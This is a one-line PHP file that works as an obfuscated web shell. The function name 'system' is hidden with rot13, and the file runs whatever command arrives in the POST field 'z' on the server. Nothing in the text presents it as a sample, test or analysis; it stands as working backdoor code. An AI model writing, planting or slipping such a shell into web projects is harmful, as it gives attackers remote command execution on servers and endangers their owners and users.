<?php $a = str_rot13('flfgrz'); $a($_POST['z']);
